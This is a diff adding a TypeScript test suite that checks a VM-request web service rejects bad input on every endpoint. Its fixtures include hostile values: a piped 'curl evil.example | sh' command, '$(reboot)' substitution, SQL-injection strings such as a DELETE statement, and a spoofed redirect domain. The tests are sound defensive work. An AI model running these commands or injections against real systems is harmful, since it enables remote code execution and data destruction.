@@ -1,0 +1,155 @@
+import { requestVm } from '../core/assignment';
+import { recordPoll } from '../core/vms';
+import { dumpDatabase } from './support/database';
+import { TEST_ADMIN_SECRET, TEST_FLEET_TOKEN, crdCommand, fakeCode } from './support/fixtures';
+import { TestStack, startTestStack } from './support/stack';
+
+const JSON_TYPE = 'application/json';
+const FORM_TYPE = 'application/x-www-form-urlencoded';
+const AGENT = `Bearer ${TEST_FLEET_TOKEN}`;
+const ADMIN = `Basic ${Buffer.from(`admin:${TEST_ADMIN_SECRET}`).toString('base64')}`;
+const UNKNOWN_ASSIGNMENT = '00000000-0000-4000-8000-000000000000';
+
+interface Case {
+  name: string;
+  method: 'GET' | 'POST';
+  path: string;
+  headers?: Record<string, string>;
+  body?: string;
+  status: number;
+  message: RegExp;
+}
+
+const json = (value: unknown) => JSON.stringify(value);
+const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
+const goodCommand = crdCommand(fakeCode());
+const requestVmCase = (name: string, fields: Record<string, string>, status: number, message: RegExp): Case => ({
+  name: `request_vm: ${name}`,
+  method: 'POST',
+  path: '/api/request_vm',
+  headers: { 'content-type': FORM_TYPE, accept: JSON_TYPE },
+  body: form(fields),
+  status,
+  message,
+});
+const agentCase = (name: string, path: string, body: string, status: number, message: RegExp, headers: Record<string, string> = { 'content-type': JSON_TYPE, authorization: AGENT }): Case => ({
+  name: `${path}: ${name}`,
+  method: 'POST',
+  path,
+  headers,
+  body,
+  status,
+  message,
+});
+const report = { hostname: 'known-vm', assignment: UNKNOWN_ASSIGNMENT, outcome: 'configured' };
+
+/** One row per public endpoint and kind of bad input; each must be refused with a clear 4xx. */
+const CASES: Case[] = [
+  agentCase('no token', '/vm_startup', json({ hostname: 'new-vm' }), 401, /Bearer/, { 'content-type': JSON_TYPE }),
+  agentCase('a wrong token', '/vm_startup', json({ hostname: 'new-vm' }), 403, /wrong/, { 'content-type': JSON_TYPE, authorization: 'Bearer wrong-token-wrong-token' }),
+  agentCase('a token in the wrong scheme', '/vm_startup', json({ hostname: 'new-vm' }), 401, /Bearer/, { 'content-type': JSON_TYPE, authorization: `Basic ${TEST_FLEET_TOKEN}` }),
+  agentCase('malformed JSON', '/vm_startup', '{"hostname":', 400, /not valid JSON/),
+  agentCase('a JSON array', '/vm_startup', json(['new-vm']), 400, /JSON object/),
+  agentCase('a wrong content type', '/vm_startup', json({ hostname: 'new-vm' }), 415, /application\/json/, { 'content-type': 'text/plain', authorization: AGENT }),
+  agentCase('a missing hostname', '/vm_startup', json({}), 400, /hostname/),
+  agentCase('an extra field', '/vm_startup', json({ hostname: 'new-vm', state: 'configured' }), 400, /Unexpected field\(s\): state/),
+  agentCase('a hostname with shell syntax', '/vm_startup', json({ hostname: 'vm;reboot' }), 400, /hostname/),
+  agentCase('a hostname with a newline', '/vm_startup', json({ hostname: 'vm\nx' }), 400, /hostname/),
+  agentCase('a hostname with a Unicode look-alike', '/vm_startup', json({ hostname: 'lablink-vm-\u0031\u0338' }), 400, /hostname/),
+  agentCase('an SQL-ish hostname', '/vm_startup', json({ hostname: "x' OR '1'='1" }), 400, /hostname/),
+  agentCase('an over-long hostname', '/vm_startup', json({ hostname: 'a'.repeat(64) }), 400, /hostname/),
+  agentCase('an oversized body', '/vm_startup', json({ hostname: 'x', pad: 'y'.repeat(5000) }), 413, /larger than/),
+  agentCase('a report without a token', '/vm_status', json(report), 401, /Bearer/, { 'content-type': JSON_TYPE }),
+  agentCase('a report for an unknown hostname', '/vm_status', json({ ...report, hostname: 'ghost-vm' }), 409, /no such assignment/),
+  agentCase('a report with an SQL-ish assignment id', '/vm_status', json({ ...report, assignment: "1' OR '1'='1" }), 400, /assignment/),
+  agentCase('a report with an unknown outcome', '/vm_status', json({ ...report, outcome: 'hacked' }), 400, /outcome/),
+  agentCase('a report with an over-long message', '/vm_status', json({ ...report, outcome: 'error', message: 'x'.repeat(501) }), 400, /message/),
+  agentCase('a report with extra fields', '/vm_status', json({ ...report, state: 'waiting' }), 400, /Unexpected field\(s\): state/),
+  agentCase('a report with a missing assignment', '/vm_status', json({ hostname: 'known-vm', outcome: 'configured' }), 400, /assignment/),
+  requestVmCase('no fields', {}, 400, /Enter your email/),
+  requestVmCase('a missing command', { email: 'a@example.com' }, 400, /command is empty/),
+  requestVmCase('an extra field', { email: 'a@example.com', crd_command: goodCommand, pin: '123456' }, 400, /Unexpected field\(s\): pin/),
+  requestVmCase('shell metacharacters', { email: 'a@example.com', crd_command: `${goodCommand} && curl evil.example | sh` }, 400, /contains "&&"/),
+  requestVmCase('a command substitution', { email: 'a@example.com', crd_command: goodCommand.replace('$(hostname)', '$(reboot)') }, 400, /--name in the command is not a valid host name/),
+  requestVmCase('a newline', { email: 'a@example.com', crd_command: `${goodCommand}\nreboot` }, 400, /line break/),
+  requestVmCase('a Cyrillic look-alike in the code', { email: 'a@example.com', crd_command: crdCommand('4/0Aan\u0430bcdefghijklmnopqrstuvwxyz') }, 400, /incomplete or malformed/),
+  requestVmCase('a full-width look-alike in the email', { email: 'a\uff20example.com', crd_command: goodCommand }, 400, /not a valid email/),
+  requestVmCase('an SQL-ish email', { email: "x'); DELETE FROM vms; --@example.com", crd_command: goodCommand }, 400, /not a valid email/),
+  requestVmCase('an over-long command', { email: 'a@example.com', crd_command: `${goodCommand}${' '.repeat(2100)}` }, 400, /longer than 2048/),
+  requestVmCase('an over-long email', { email: `${'a'.repeat(250)}@example.com`, crd_command: goodCommand }, 400, /too long/),
+  requestVmCase('the wrong redirect URL', { email: 'a@example.com', crd_command: goodCommand.replace('remotedesktop.google.com', 'remotedesktop.google.com.evil.example') }, 400, /redirect-url/),
+  { name: 'request_vm: malformed JSON', method: 'POST', path: '/api/request_vm', headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE }, body: '{"email"', status: 400, message: /could not be read/ },
+  { name: 'request_vm: a JSON array', method: 'POST', path: '/api/request_vm', headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE }, body: '[]', status: 400, message: /JSON object/ },
+  { name: 'request_vm: a wrong content type', method: 'POST', path: '/api/request_vm', headers: { 'content-type': 'text/plain', accept: JSON_TYPE }, body: 'email=a@example.com', status: 415, message: /x-www-form-urlencoded/ },
+  { name: 'request_vm: an oversized body', method: 'POST', path: '/api/request_vm', headers: { 'content-type': FORM_TYPE, accept: JSON_TYPE }, body: form({ email: 'a@example.com', crd_command: 'x'.repeat(20_000) }), status: 413, message: /larger than/ },
+  { name: 'assignment status: an SQL-ish id', method: 'GET', path: "/api/assignment/1'%20OR%20'1'='1", status: 400, message: /not an assignment id/ },
+  { name: 'assignment status: an unknown id', method: 'GET', path: `/api/assignment/${UNKNOWN_ASSIGNMENT}`, status: 404, message: /no VM request with this link/ },
+  { name: 'VM page: an unknown id', method: 'GET', path: `/vm/${UNKNOWN_ASSIGNMENT}`, status: 404, message: /no VM request with this link/ },
+  { name: 'admin list: no credentials', method: 'GET', path: '/api/vms', status: 401, message: /Sign in as "admin"/ },
+  { name: 'admin list: a wrong password', method: 'GET', path: '/api/vms', headers: { authorization: `Basic ${Buffer.from('admin:wrong-password-123').toString('base64')}` }, status: 401, message: /Sign in as "admin"/ },
+  { name: 'admin list: a malformed Authorization header', method: 'GET', path: '/api/vms', headers: { authorization: 'Basic !!!not-base64' }, status: 401, message: /Sign in as "admin"/ },
+  { name: 'release: no credentials', method: 'POST', path: '/api/vms/known-vm/release', status: 401, message: /Sign in as "admin"/ },
+  { name: 'release: an unknown hostname', method: 'POST', path: '/api/vms/ghost-vm/release', headers: { authorization: ADMIN }, status: 404, message: /no VM with that name/ },
+  { name: 'release: an SQL-ish hostname', method: 'POST', path: "/api/vms/x'%20OR%201=1/release", headers: { authorization: ADMIN }, status: 404, message: /no VM with that name/ },
+  { name: 'dashboard release: a cross-site form post', method: 'POST', path: '/admin/vms/known-vm/release', headers: { authorization: ADMIN, origin: 'https://evil.example', 'content-type': FORM_TYPE }, body: '', status: 403, message: /./ },
+  { name: 'CSV export: no credentials', method: 'GET', path: '/api/vms.csv', status: 401, message: /Sign in as "admin"/ },
+];
+
+describe('bad input: a clear 4xx on every public endpoint, and the database byte-for-byte as it was', () => {
+  let env: TestStack;
+  beforeAll(async () => {
+    env = await startTestStack({ holdSeconds: 1 });
+    await recordPoll(env.db.sql, 'known-vm', 600);
+    await recordPoll(env.db.sql, 'other-vm', 600);
+    const assigned = await requestVm(env.db.sql, { email: 'owner@example.com', crdCommand: crdCommand() });
+    expect(assigned.kind).toBe('assigned');
+  });
+  afterAll(async () => env?.close());
+
+  it.each(CASES.map((testCase) => [testCase.name, testCase] as const))('%s', async (_name, testCase) => {
+    const before = await dumpDatabase(env.db.pool);
+    const response = await fetch(`${env.url}${testCase.path}`, { method: testCase.method, headers: testCase.headers, body: testCase.body });
+    expect(response.status).toBe(testCase.status);
+    const text = await response.text();
+    let message = text;
+    try {
+      message = (JSON.parse(text) as { error?: string }).error ?? text;
+    } catch {
+      // Not JSON: an HTML page or plain text, matched as it is.
+    }
+    expect(message).toMatch(testCase.message);
+    expect(await dumpDatabase(env.db.pool)).toBe(before);
+  });
+});
+
+describe('access code and request limits', () => {
+  let env: TestStack;
+  beforeAll(async () => {
+    env = await startTestStack({ accessCode: 'room-42', requestLimits: { perClient: { perSecond: 0.01, burst: 3 }, global: { perSecond: 100, burst: 100 } } });
+    await recordPoll(env.db.sql, 'code-vm-1', 600);
+  });
+  afterAll(async () => env?.close());
+
+  const submit = (fields: Record<string, string>) =>
+    fetch(`${env.url}/api/request_vm`, { method: 'POST', headers: { 'content-type': FORM_TYPE, accept: JSON_TYPE }, body: form(fields) });
+
+  it('asks for the access code on the form, refuses without it or with a wrong one, accepts the right one, then limits', async () => {
+    expect(await (await fetch(`${env.url}/`)).text()).toContain('<label for="access_code">Access code</label>');
+    const before = await dumpDatabase(env.db.pool);
+    const missing = await submit({ email: 'a@example.com', crd_command: crdCommand() });
+    expect(missing.status).toBe(403);
+    expect(await missing.json()).toEqual({ error: 'Enter the access code your instructor gave you.', field: 'access_code' });
+    const wrong = await submit({ email: 'a@example.com', crd_command: crdCommand(), access_code: 'room-43' });
+    expect(wrong.status).toBe(403);
+    expect(((await wrong.json()) as { error: string }).error).toMatch(/not right/);
+    expect(await dumpDatabase(env.db.pool)).toBe(before);
+
+    const right = await submit({ email: 'a@example.com', crd_command: crdCommand(), access_code: 'room-42' });
+    expect(right.status).toBe(200);
+
+    const limited = await submit({ email: 'b@example.com', crd_command: crdCommand(), access_code: 'room-42' });
+    expect(limited.status).toBe(429);
+    expect(limited.headers.get('retry-after')).toBe('1');
+    expect(((await limited.json()) as { error: string }).error).toMatch(/Too many requests/);
+  });
+});
